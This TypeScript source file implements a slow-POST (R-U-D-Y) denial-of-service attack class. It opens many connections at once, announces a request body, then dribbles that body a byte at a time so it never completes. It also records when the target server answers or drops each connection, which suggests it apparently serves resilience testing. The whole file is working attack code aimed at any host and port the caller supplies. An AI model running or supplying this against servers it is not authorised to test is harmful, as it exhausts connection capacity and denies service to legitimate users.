// Slow body (R-U-D-Y, "slow POST"): connections that send a complete request head announcing
// a body, then dribble the body a few bytes at a time and never finish it.
// Each connection records when the server stopped waiting: it answered (any status) or closed.
import { RawConn, type CloseInfo } from '../http/conn.js';
import type { RawResponse } from '../http/parser.js';

export interface SlowBodyOptions {
  host: string;
  port: number;
  connections: number;
  method?: string;
  path: string;
  contentType?: string;
  /** the Content-Length announced; the body is never finished within any sane window */
  contentLength?: number;
  /** bytes per write, and the pause between writes */
  chunk?: number;
  cadenceMs?: number;
  signal: AbortSignal;
  connectTimeoutMs?: number;
}

export interface SlowBodyConn {
  conn?: RawConn;
  connectError?: string;
  /** the server answered before the body was complete (ms after connect) */
  answered?: { status: number; atMs: number };
  /** the server closed the connection (FIN or RST) */
  closedByServer?: CloseInfo;
  /** body bytes written before the server stopped us (or we stopped) */
  bytesSent: number;
}

export class SlowBodyAttack {
  readonly conns: SlowBodyConn[] = [];
  private writers: Promise<unknown>[] = [];

  constructor(private readonly opts: SlowBodyOptions) {}

  /** Opens the connections (all at once), sends each head, then starts dribbling the body. */
  async start(): Promise<void> {
    const { host, port, connections, signal } = this.opts;
    const length = this.opts.contentLength ?? 1000;
    const body = Buffer.from('{"text":"' + 'a'.repeat(Math.max(0, length - 12)) + '"}').subarray(0, length);
    await Promise.all(
      Array.from({ length: connections }, async () => {
        const entry: SlowBodyConn = { bytesSent: 0 };
        this.conns.push(entry);
        try {
          entry.conn = await RawConn.open(host, port, { timeoutMs: this.opts.connectTimeoutMs ?? 3000 });
        } catch (err) {
          entry.connectError = (err as { code?: string }).code ?? String(err);
          return;
        }
        const conn = entry.conn;
        conn.closed.then((c) => {
          if (c.by === 'peer-fin' || c.by === 'peer-rst') entry.closedByServer = c;
        });
        conn
          .next(24 * 3600_000)
          .then((r: RawResponse) => (entry.answered = { status: r.status, atMs: conn.age() }))
          .catch(() => {});
        conn.send({
          method: this.opts.method ?? 'POST',
          path: this.opts.path,
          headers: { 'Content-Type': this.opts.contentType ?? 'application/json', 'Content-Length': String(length) },
        });
        this.writers.push(
          conn
            .writeSlowly(body, { chunk: this.opts.chunk ?? 1, cadenceMs: this.opts.cadenceMs ?? 500, signal })
            .then((n) => (entry.bytesSent = n)),
        );
      }),
    );
  }

  connected(): number {
    return this.conns.filter((c) => c.conn).length;
  }

  /** ms after its connect at which the server stopped waiting for this one (answered or closed), if it did */
  static stoppedAtMs(c: SlowBodyConn): number | undefined {
    const t = [c.answered?.atMs, c.closedByServer?.atMs].filter((x): x is number => x !== undefined);
    return t.length ? Math.min(...t) : undefined;
  }

  /** connections the server has stopped waiting for so far */
  stopped(): number {
    return this.conns.filter((c) => SlowBodyAttack.stoppedAtMs(c) !== undefined).length;
  }

  /** the latest time at which the server stopped waiting for one of them */
  slowestStopMs(): number | undefined {
    const t = this.conns.flatMap((c) => {
      const s = SlowBodyAttack.stoppedAtMs(c);
      return s === undefined ? [] : [s];
    });
    return t.length ? Math.max(...t) : undefined;
  }

  stop(): void {
    for (const c of this.conns) c.conn?.close();
  }
}
